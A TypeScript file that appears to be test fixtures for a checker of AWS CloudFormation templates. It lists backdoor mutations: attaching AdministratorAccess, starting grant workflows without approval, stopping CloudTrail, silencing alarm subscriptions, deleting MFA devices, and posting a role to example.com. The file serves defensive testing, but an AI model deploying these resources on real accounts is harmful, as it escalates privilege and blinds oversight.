import { add, arnOf, filter, find, INVESTIGATOR_ROLE, ref, roleId, StackName } from './helpers';
import { BackDoor, ofKind } from './types';
import { Templates } from '../mutations';

const HELPER = 'arn:aws:lambda:us-east-1:111111111111:function:deploy-helper';
const WORKER = 'arn:aws:iam::111111111111:role/Worker';
const INSTANCE = 'arn:aws:sso:::instance/ssoins-1234567890abcdef';
const GRANTED = 'arn:aws:sso:::permissionSet/ssoins-1234567890abcdef/ps-1234567890abcdef';

const joined = (...parts: unknown[]) => ({ 'Fn::Join': ['', parts] });
const elevated = (t: Templates, prefix: string, type: string) => find(t, 'Elevation', prefix, type).id;
const workflow = (t: Templates, name: string) => ref(elevated(t, `Elevation${name}`, 'AWS::StepFunctions::StateMachine'));
const subscription = (t: Templates) => ref(find(t, 'Security', 'Topic', 'AWS::SNS::Subscription').id);

/** A custom resource that makes one call. */
function call(t: Templates, service: string, action: string, ...parameters: unknown[]): void {
  add(t, 'Security', 'Call', 'Custom::AWS', { ServiceToken: HELPER, Create: joined(`{"service":"${service}","action":"${action}","parameters":`, ...parameters, '}') });
}

/** A schedule that makes one call each day. */
function daily(t: Templates, stack: StackName, api: string, ...input: unknown[]): void {
  add(t, stack, 'Daily', 'AWS::Scheduler::Schedule', {
    FlexibleTimeWindow: { Mode: 'OFF' }, ScheduleExpression: 'rate(1 day)', Target: { Arn: `arn:aws:scheduler:::aws-sdk:${api}`, RoleArn: WORKER, Input: joined(...input) },
  });
}

/** A state machine with one task. */
function machine(t: Templates, stack: StackName, comment: string, resource: string, ...args: unknown[]): void {
  add(t, stack, 'Machine', 'AWS::StepFunctions::StateMachine', {
    RoleArn: WORKER,
    DefinitionString: joined(`{"Comment":"${comment}","StartAt":"A","States":{"A":{"Type":"Task","Resource":"arn:aws:states:::${resource}",`, ...args, ',"End":true}}}'),
  });
}

const UNDER_A_COMMENT = ofKind('elevation', [{
  id: 'acting-under-the-comment-of-a-workflow',
  putIn: 'a state machine with the comment of the workflow that ends accesses, which writes a version of a user\'s boundary',
  effect: 'the boundary allows what the version says',
  mutate: (t) => machine(t, 'Security', 'Ends an elevated access', 'aws-sdk:iam:createPolicyVersion',
    '"Arguments":{"SetAsDefault":true,"PolicyDocument":"{}","PolicyArn":"', ref(find(t, 'Security', 'JaneBoundary', 'AWS::IAM::ManagedPolicy').id), '"}'),
}, {
  id: 'acting-under-the-comment-of-the-comparison',
  putIn: 'a state machine with the comment of the workflow that compares, which writes a policy into a role',
  effect: 'the investigator may what the policy says, within its boundary',
  mutate: (t) => machine(t, 'Security', 'Compares the ledger with the clock and with existing accesses', 'aws-sdk:iam:putRolePolicy',
    '"Arguments":{"PolicyName":"x","PolicyDocument":"{}","RoleName":"', ref(roleId(t, 'Security', 'Investigator')), '"}'),
}, {
  id: 'acting-by-http',
  putIn: 'a state machine with the comment of a workflow, which calls a service of somebody else about a role',
  effect: 'the service does with the role what its connection may',
  mutate: (t) => machine(t, 'Security', 'Ends an elevated access', 'http:invoke',
    `"Parameters":{"ApiEndpoint":"https://example.com/","Method":"POST","RequestBody":{"role":"${INVESTIGATOR_ROLE}"}}`),
}, {
  id: 'acting-starts-a-workflow',
  putIn: 'a state machine that starts the workflow that grants',
  effect: 'who may start the state machine gets an access that nobody approved',
  mutate: (t) => machine(t, 'Elevation', 'Nightly', 'states:startExecution', '"Parameters":{"StateMachineArn":"', workflow(t, 'Life'), '","Input.$":"$"}'),
}]);

const ON_ELEVATED_ACCESS = ofKind('elevation', [{
  id: 'acting-assigns-what-a-rule-grants',
  putIn: 'a schedule that assigns the permission set of a rule',
  effect: 'an access without request, approval and end',
  mutate: (t) => daily(t, 'Elevation', 'ssoadmin:createAccountAssignment', `{"InstanceArn":"${INSTANCE}","PermissionSetArn":"${GRANTED}","PrincipalId":"u"}`),
}, {
  id: 'acting-attaches-to-a-permission-set',
  putIn: 'a custom resource that attaches AdministratorAccess to the permission set of a playbook',
  effect: 'the phase of the playbook gives everything',
  mutate: (t) => call(t, '@aws-sdk/client-sso-admin', 'AttachManagedPolicyToPermissionSetCommand', `{"InstanceArn":"${INSTANCE}","PermissionSetArn":"`,
    { 'Fn::GetAtt': [find(t, 'Security', 'Contain', 'AWS::SSO::PermissionSet').id, 'PermissionSetArn'] }, '","ManagedPolicyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}'),
}, {
  id: 'acting-writes-the-ledger',
  putIn: 'a schedule that updates an item of the ledger',
  effect: 'a request is approved that nobody approved',
  mutate: (t) => daily(t, 'Elevation', 'dynamodb:updateItem', '{"TableName":"', ref(elevated(t, 'ElevationLedgerTable', 'AWS::DynamoDB::Table')), '","Key":{}}'),
}, {
  id: 'acting-purges-dead-letters',
  putIn: 'a schedule that purges the dead letters',
  effect: 'an end that failed raises no alarm',
  mutate: (t) => daily(t, 'Elevation', 'sqs:purgeQueue', '{"QueueUrl":"', ref(elevated(t, 'ElevationDeadLetters', 'AWS::SQS::Queue')), '"}'),
}, {
  id: 'acting-takes-dead-letters',
  putIn: 'an event source mapping that reads the dead letters',
  effect: 'an end that failed raises no alarm',
  mutate: (t) => add(t, 'Elevation', 'Mapping', 'AWS::Lambda::EventSourceMapping', {
    EventSourceArn: arnOf(elevated(t, 'ElevationDeadLetters', 'AWS::SQS::Queue')), FunctionName: 'drain',
  }),
}, {
  id: 'acting-deletes-the-ends',
  putIn: 'a schedule that deletes the group of schedules in which the ends of accesses are',
  effect: 'accesses don\'t end in time',
  mutate: (t) => daily(t, 'Elevation', 'scheduler:deleteScheduleGroup', '{"Name":"', ref(elevated(t, 'ElevationSchedules', 'AWS::Scheduler::ScheduleGroup')), '"}'),
}, {
  id: 'acting-from-a-pipeline',
  putIn: 'a pipeline with an action that starts the workflow that grants',
  effect: 'who may release a change gets an access that nobody approved',
  mutate: (t) => add(t, 'Elevation', 'Pipeline', 'AWS::CodePipeline::Pipeline', {
    RoleArn: WORKER,
    Stages: [{
      Name: 'Go',
      Actions: [{
        Name: 'Go', ActionTypeId: { Category: 'Invoke', Owner: 'AWS', Provider: 'StepFunctions', Version: '1' }, Configuration: { StateMachineArn: workflow(t, 'Life'), Input: '{}' },
      }],
    }],
  }),
}, {
  id: 'acting-from-a-topic-rule',
  putIn: 'a rule of IoT that starts the workflow that grants',
  effect: 'who may send the message gets an access that nobody approved',
  mutate: (t) => add(t, 'Elevation', 'TopicRule', 'AWS::IoT::TopicRule', {
    TopicRulePayload: {
      Sql: 'SELECT * FROM \'x\'',
      Actions: [{ StepFunctions: { StateMachineName: { 'Fn::GetAtt': [elevated(t, 'ElevationLife', 'AWS::StepFunctions::StateMachine'), 'Name'] }, RoleArn: WORKER } }],
    },
  }),
}, {
  id: 'acting-from-a-maintenance-window',
  putIn: 'a task of a maintenance window that starts the workflow that grants',
  effect: 'an access that nobody approved, each time the window opens',
  mutate: (t) => add(t, 'Elevation', 'Task', 'AWS::SSM::MaintenanceWindowTask', {
    WindowId: 'mw-0123456789abcdef0', TaskType: 'STEP_FUNCTIONS', TaskArn: workflow(t, 'Life'), ServiceRoleArn: WORKER, Priority: 1,
  }),
}, {
  id: 'acting-from-a-data-source',
  putIn: 'a data source of AppSync on the ledger',
  effect: 'who may call the GraphQL API writes the ledger',
  mutate: (t) => add(t, 'Elevation', 'Source', 'AWS::AppSync::DataSource', {
    ApiId: 'x',
    Name: 'ledger',
    Type: 'AMAZON_DYNAMODB',
    ServiceRoleArn: WORKER,
    DynamoDBConfig: { TableName: ref(elevated(t, 'ElevationLedgerTable', 'AWS::DynamoDB::Table')), AwsRegion: 'us-east-1' },
  }),
}, {
  id: 'conditional-ends',
  putIn: 'a condition on the schedule of the comparison and on the policy of the workflow that ends accesses',
  effect: 'deployed with a false condition, no access ends',
  mutate: (t) => {
    find(t, 'Elevation', 'ElevationReconciler', 'AWS::Scheduler::Schedule').resource.Condition = 'Never';
    find(t, 'Elevation', 'ElevationSchedulerRoleDefaultPolicy', 'AWS::IAM::Policy').resource.Condition = 'Never';
  },
}, {
  id: 'conditional-archive-policy',
  putIn: 'a condition on the policy of the archive\'s bucket',
  effect: 'deployed with a false condition, the copies can be reached without TLS',
  mutate: (t) => { find(t, 'Elevation', 'ElevationArchiveBucketPolicy', 'AWS::S3::BucketPolicy').resource.Condition = 'Never'; },
}, {
  id: 'conditional-method',
  putIn: 'a condition on the method by which an access is revoked',
  effect: 'deployed with a false condition, nobody can revoke an access',
  mutate: (t) => { find(t, 'Elevation', 'ElevationApirequestsidrevokePOST', 'AWS::ApiGateway::Method').resource.Condition = 'Never'; },
}]);

const ON_ALARMS = ofKind('alarm-chain', [{
  id: 'acting-unsubscribes',
  putIn: 'a custom resource that ends the subscription of the team',
  effect: 'nobody gets the alarms',
  mutate: (t) => call(t, 'sns', 'unsubscribe', '{"SubscriptionArn":"', subscription(t), '"}'),
}, {
  id: 'acting-filters-a-subscription',
  putIn: 'a custom resource that gives the subscription of the team a filter policy',
  effect: 'nobody gets the alarms',
  mutate: (t) => call(t, 'sns', 'setSubscriptionAttributes', '{"AttributeName":"FilterPolicy","AttributeValue":"{}","SubscriptionArn":"', subscription(t), '"}'),
}, {
  id: 'acting-disables-the-key-of-a-topic',
  putIn: 'a custom resource that disables the key of the topic',
  effect: 'alarms can\'t publish',
  mutate: (t) => call(t, 'KMS', 'disableKey', '{"KeyId":"', ref(find(t, 'Security', 'TopicKey', 'AWS::KMS::Key').id), '"}'),
}, {
  id: 'acting-stops-the-trail',
  putIn: 'a schedule that stops the trail',
  effect: 'the filters see no records',
  mutate: (t) => daily(t, 'Security', 'cloudtrail:stopLogging', '{"Name":"organization-trail"}'),
}, {
  id: 'acting-masks-the-log',
  putIn: 'a custom resource that writes a data protection policy for the trail\'s log group',
  effect: 'names in the records are masked, and the filters don\'t find them',
  mutate: (t) => call(t, 'CloudWatchLogs', 'putDataProtectionPolicy', '{"logGroupIdentifier":"', filter(t, 'AlarmUseFilter1').LogGroupName, '","policyDocument":"{}"}'),
}, {
  id: 'conditional-topic-key',
  putIn: 'a condition on the key of the topic',
  effect: 'deployed with a false condition, alarms can\'t publish',
  mutate: (t) => { find(t, 'Security', 'TopicKey', 'AWS::KMS::Key').resource.Condition = 'Never'; },
}, {
  id: 'conditional-log-group',
  putIn: 'a condition on the trail\'s log group',
  effect: 'deployed with a false condition, the filters see no records',
  mutate: (t) => { find(t, 'Security', 'Trail', 'AWS::Logs::LogGroup').resource.Condition = 'Never'; },
}]);

const ON_ACCOUNTS = ofKind('template', [{
  id: 'acting-attaches-an-scp',
  putIn: 'a custom resource of the management account that attaches a service control policy to the account of break-glass',
  effect: 'the policy, which nobody read, may deny what responders need',
  mutate: (t) => t.addStack({
    name: 'Management',
    account: '555000555000',
    region: 'us-east-1',
    template: {
      Resources: {
        Attach: {
          Type: 'Custom::AWS',
          Properties: { ServiceToken: HELPER, Create: '{"service":"Organizations","action":"attachPolicy","parameters":{"PolicyId":"p-other","TargetId":"111111111111"}}' },
        },
      },
    },
  }),
}, {
  id: 'acting-deletes-a-device',
  putIn: 'a custom resource that deletes a virtual MFA device',
  effect: 'if it is a responder\'s, they can\'t sign in, and the next one to have the password enrols a device',
  mutate: (t) => call(t, 'IAM', 'deleteVirtualMFADevice', '{"SerialNumber":"arn:aws:iam::111111111111:mfa/phone"}'),
}, {
  id: 'acting-for-every-caller',
  putIn: 'a data source of AppSync that signs calls of IAM',
  effect: 'who may call the GraphQL API may call IAM',
  mutate: (t) => add(t, 'Security', 'Source', 'AWS::AppSync::DataSource', {
    ApiId: 'x',
    Name: 'iam',
    Type: 'HTTP',
    ServiceRoleArn: WORKER,
    HttpConfig: {
      Endpoint: 'https://iam.amazonaws.com',
      AuthorizationConfig: { AuthorizationType: 'AWS_IAM', AwsIamConfig: { SigningRegion: 'us-east-1', SigningServiceName: 'iam' } },
    },
  }),
}]);

/** Resources that act on what alarms and elevated access consist of, and conditions on it. */
export const ACTING_ON_PARTS: readonly BackDoor[] = [...UNDER_A_COMMENT, ...ON_ELEVATED_ACCESS, ...ON_ALARMS, ...ON_ACCOUNTS];
